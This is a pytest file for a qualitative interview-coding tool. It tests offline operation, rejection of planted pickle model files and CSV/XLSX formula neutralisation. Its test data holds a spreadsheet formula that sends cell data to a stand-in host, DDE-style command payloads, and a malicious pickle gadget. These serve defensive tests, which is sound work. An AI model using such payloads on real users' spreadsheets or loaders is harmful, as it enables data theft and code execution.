"""Privacy: the whole flow a researcher runs (import, pre-code, review through the calls the
app makes, retrain, export) with the real encoder and every outbound connection blocked and
recorded; the shipped Streamlit configuration; model files that are never unpickled; exports
that cannot smuggle formulas or escape their folder."""

from __future__ import annotations

import csv
import pickle
import socket
import tomllib

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from coder_assist.app import training as learn
from coder_assist.app import review
from coder_assist.core.errors import CoderAssistError, ProjectError
from coder_assist.formats.transcripts import MAX_FILE_BYTES
from coder_assist.store.project import Project
from tests import conftest as root_conftest
from tests.conftest import DEMO_DIR, ROOT
from tests.reliability.workers import HashEncoder


@pytest.fixture
def dns_audit(monkeypatch):
    """Name lookups do not go through socket.connect: record those too."""
    looked_up = []
    real = socket.getaddrinfo

    def audited(host, *a, **k):
        if host not in (None, "localhost") and not str(host).startswith(("127.", "::1")):
            looked_up.append(host)
            raise socket.gaierror(f"name lookup attempted in an offline test: {host!r}")
        return real(host, *a, **k)

    monkeypatch.setattr(socket, "getaddrinfo", audited)
    return looked_up


def test_whole_flow_offline(base_encoder, tmp_path, dns_audit):
    from coder_assist.app.pipeline import import_files, init_project, precode, suggest_project

    attempts_before = len(root_conftest.NETWORK_ATTEMPTS)
    with init_project(tmp_path / "proj") as p:
        # Three interviews keep the real model's encoding short; the path is the full one.
        import_files(p, sorted(DEMO_DIR.glob("*.txt"))[:3], attributes=DEMO_DIR / "attributes.csv")
        suggest_project(p, encoder=base_encoder, progress=False)
        for i in range(40):  # Review page: next suggestion, Accept / Reject, one Different code, one Undo
            row = review.next_suggestion(p, "ann", "likely")
            if i == 5:
                other = next(c.id for c in p.template().leaves() if c.id != row["code_id"])
                review.choose_other_code(p, row["suggestion_id"], other, "ann")
            else:
                review.decide_once(p, row["suggestion_id"], "accept" if i % 3 else "reject", "ann")
        review.undo_last(p, "ann")
        mv = learn.train_project(p, base_encoder)
        assert (p.folder / "models" / f"v{mv}" / "weights.npz").exists()
        out = precode(sorted(DEMO_DIR.glob("*.txt"))[:1], project=p, encoder=base_encoder, progress=False)
        assert len(out) > 0
        try:
            from coder_assist.app import export
        except ImportError:
            export = None
        if export is not None:
            frame = export.codings_frame(p)
            export.write_csv(frame, tmp_path / "codings.csv")
            export.write_xlsx(frame, tmp_path / "codings.xlsx")
            export.write_docx(p, frame, tmp_path / "word", transcripts=frame["transcript"].unique()[:1].tolist())
            export.write_report(p, frame, tmp_path / "report")
        try:
            from coder_assist.app import importing
        except ImportError:
            importing = None
        if importing is not None:
            importing.export_qdpx(p, tmp_path / "proj.qdpx")
    assert len(root_conftest.NETWORK_ATTEMPTS) == attempts_before, root_conftest.NETWORK_ATTEMPTS[attempts_before:]
    assert dns_audit == []


def test_the_guard_itself_blocks_and_records():
    before = len(root_conftest.NETWORK_ATTEMPTS)
    s = socket.socket()
    try:
        with pytest.raises(ConnectionRefusedError):
            s.connect(("192.0.2.1", 443))  # TEST-NET: never routable anyway
    finally:
        s.close()
    assert len(root_conftest.NETWORK_ATTEMPTS) == before + 1
    del root_conftest.NETWORK_ATTEMPTS[before:]  # this attempt was the test's own


def test_shipped_streamlit_config():
    cfg = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert cfg["browser"]["gatherUsageStats"] is False
    assert cfg["server"]["address"] == "127.0.0.1"
    assert cfg["server"]["maxUploadSize"] == MAX_FILE_BYTES // 2**20
    assert cfg["server"].get("enableXsrfProtection", True) is True


# --------------------------------------------------------------------------- model files


@pytest.fixture
def trained(project_dir):
    with Project.open(project_dir) as p:
        for sid in p.suggestions()["suggestion_id"].head(60):
            review.decide(p, int(sid), "accept" if sid % 3 else "reject", "ann")
        mv = learn.train_project(p, HashEncoder())
    return project_dir, mv


class _Boom:
    def __reduce__(self):
        return (open, ("/tmp/coder-assist-pickle-ran", "w"))


@pytest.mark.parametrize("plant", ["raw pickle", "object array", "garbage", "empty"])
def test_planted_model_file_is_refused(trained, plant, tmp_path):
    import os

    folder, mv = trained
    weights = folder / "models" / f"v{mv}" / "weights.npz"
    if plant == "raw pickle":
        weights.write_bytes(pickle.dumps(_Boom()))
    elif plant == "object array":
        with np.load(weights) as z:  # the real arrays, one of them swapped for pickled objects
            arrays = {k: z[k] for k in z.files}
        key = next((k for k in arrays if k.startswith(("idf__", "coef_len__"))), next(iter(arrays)))
        arrays[key] = np.array([_Boom()], dtype=object)
        np.savez(weights.with_suffix(""), **arrays)
    elif plant == "garbage":
        weights.write_bytes(os.urandom(4096))
    else:
        weights.write_bytes(b"")
    with Project.open(folder) as p, pytest.raises(ProjectError, match="weights.npz"):
        learn.load_model_version(p, mv, HashEncoder())
    assert not os.path.exists("/tmp/coder-assist-pickle-ran")


def test_damaged_model_json_is_refused(trained):
    folder, mv = trained
    (folder / "models" / f"v{mv}" / "model.json").write_text("{not json", encoding="utf-8")
    with Project.open(folder) as p, pytest.raises(CoderAssistError):
        learn.load_model_version(p, mv, HashEncoder())


# --------------------------------------------------------------------------- exports

export = pytest.importorskip("coder_assist.app.export")
tables = pytest.importorskip("coder_assist.formats.tables")


@settings(max_examples=200, deadline=None)
@given(name=st.text(max_size=120))
def test_export_file_names_stay_inside(name, tmp_path_factory):
    safe = export.safe_filename(name, ".docx")
    assert safe and "/" not in safe and "\\" not in safe and not safe.startswith(".") and ".." not in safe.split(".docx")[0].split("/")
    folder = tmp_path_factory.mktemp("exp")
    assert tables.inside(folder, safe).parent == folder.resolve()


def test_formulas_are_neutralised_in_csv_and_xlsx(project_dir, tmp_path):
    from coder_assist.app.pipeline import import_files

    evil = tmp_path / "formulas.txt"
    evil.write_text('Interviewer: =HYPERLINK("http://evil.example/?"&A1,"click")\n\nP3: +cmd|\' /C calc\'!A0\n\n'
                    "P3: @SUM(1+1)*cmd|' /C calc'!A0\n\nP3: -2+3 and more\n", encoding="utf-8")
    with Project.open(project_dir) as p:
        import_files(p, [evil])
        segs = p.segments(int(p.transcripts().set_index("name").loc["formulas", "id"]))
        code = p.template().leaves()[0].id
        for s in segs.itertuples():
            review.add_code(p, s.id, code, "=evil()")
        frame = export.codings_frame(p)
        frame = frame[frame["transcript"] == "formulas"]
        assert len(frame)
        export.write_csv(frame, tmp_path / "out.csv")
        export.write_xlsx(frame, tmp_path / "out.xlsx")
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    import openpyxl

    wb = openpyxl.load_workbook(tmp_path / "out.xlsx")
    cells += [str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert not risky, risky[:5]
    assert any(c.startswith("'=evil()") for c in cells)


vectors = pytest.importorskip("coder_assist.scale.vectors")


@pytest.mark.parametrize("plant", ["pickle as vectors.npy", "pickle as ids.npy", "header not a mapping", "header without fields"])
def test_planted_vector_store_files_are_refused(tmp_path, plant):
    store = vectors.VectorStore.create(tmp_path / "vs", 4, model="m")
    store.append(np.array([1, 2]), np.ones((2, 4), dtype=np.float32))
    store.close()
    folder = tmp_path / "vs"
    if plant.startswith("pickle"):
        (folder / plant.split(" as ")[1]).write_bytes(pickle.dumps(_Boom()))
    elif plant == "header not a mapping":
        (folder / "vectors.json").write_text("[1, 2, 3]", encoding="utf-8")
    else:
        (folder / "vectors.json").write_text('{"format": %s}' % __import__("json").dumps(vectors.FORMAT), encoding="utf-8")
    with pytest.raises(ProjectError):
        vectors.VectorStore.open(folder)
    import os

    assert not os.path.exists("/tmp/coder-assist-pickle-ran")
